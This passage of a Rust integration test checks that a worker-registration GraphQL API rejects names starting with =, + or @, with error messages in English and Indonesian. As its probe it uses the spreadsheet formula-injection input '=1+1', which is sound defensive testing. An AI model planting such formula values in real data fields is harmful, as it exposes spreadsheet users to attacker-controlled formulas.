            (error_code(&response), error_field(&response)),
            ("BAD_USER_INPUT", "fullName"),
            "{name}: {response}"
        );
    }
    assert_eq!((app.count_rows("worker").await, app.count_rows("audit_log").await), (1, audit));
    assert_eq!(worker_row(&app, &budi).await["fullName"], "Budi");
    let response = register(&app, input(&male_nik(9), "=1+1")).await;
    assert_eq!(
        response["errors"][0]["message"],
        "fullName must not start with =, + or @ (spreadsheets would run it as a formula)"
    );
    let response =
        app.in_language("id").gql_as(&app.admin, REGISTER, json!({ "input": input(&male_nik(9), "=1+1") })).await;
    assert_eq!(
        response["errors"][0]["message"],
        "fullName tidak boleh diawali =, + atau @ (spreadsheet akan menjalankannya sebagai rumus)"
    );
    // Those characters inside a name, a leading '-' or quote: names still (exports make them inert).
    for (n, name) in ["Siti = Aminah", "Ahmad+Yani", "Dewi@Desa", "-Budi", "'Aisyah"].into_iter().enumerate() {
        let registered = data(&register(&app, input(&male_nik(20 + n as u32), name)).await)["registerWorker"].clone();
        assert_eq!(registered["fullName"], name);
    }
});
